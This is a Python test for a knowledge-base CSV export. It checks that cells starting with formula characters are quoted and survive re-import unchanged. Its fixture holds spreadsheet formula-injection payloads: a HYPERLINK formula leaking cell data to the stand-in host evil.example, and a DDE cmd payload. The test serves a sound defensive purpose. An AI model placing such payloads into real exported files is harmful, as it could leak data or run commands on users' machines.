"""The CSV export holds no cell a spreadsheet would run as a formula, and imports back whole."""

from __future__ import annotations

import csv

from sqlalchemy import delete, select

from knowledge_base.articles import create_article
from knowledge_base.models import Article
from knowledge_base.transfer import export_articles, import_articles, read

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# (title, body, category): what an author (or an imported FAQ) may have written.
ARTICLES = [
    ('=HYPERLINK("https://evil.example/?"&A1,"Details")', "=1+2", None),
    ("+49 30 1234 Hotline", "- Punkt eins\n- Punkt zwei", "+Service"),
    ("-1 Fehlercode", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"),
    ("@channel bitte lesen", "\tEingerückt\n=und mehr", "@Team"),
    ("'=schon mit Apostroph", "'-auch hier", "''@zwei"),
    ("Ganz normal", "'Apostroph, aber keine Formel", "Konto/Passwort"),
]


async def test_formula_cells_are_quoted_and_come_back_unchanged(runtime, tmp_path):
    async with runtime.transaction() as tx:
        for title, body, category in ARTICLES:
            await create_article(tx, title=title, body=body, category=category, language="de")
    before = await articles(runtime)
    path = tmp_path / "kb.csv"
    await export_articles(runtime, path)

    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))[1:]
    assert len(rows) == len(ARTICLES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    cells = {cell for row in rows for cell in row}
    assert "'=1+2" in cells and "'- Punkt eins\n- Punkt zwei" in cells
    assert "''=schon mit Apostroph" in cells  # a quote the author wrote survives the import
    assert "Ganz normal" in cells and "'Apostroph, aber keine Formel" in cells

    async with runtime.transaction() as tx:
        await tx.session.execute(delete(Article))
    report = await import_articles(runtime, read(path))
    assert report.created == len(ARTICLES) and not report.rejected
    assert await articles(runtime) == before
    # Categories too: exported again, the file is the same.
    await export_articles(runtime, tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == path.read_bytes()


async def articles(runtime) -> list[tuple]:
    async with runtime.read() as session:
        rows = await session.execute(
            select(Article.title, Article.body, Article.language).order_by(Article.title)
        )
        return [tuple(row) for row in rows]
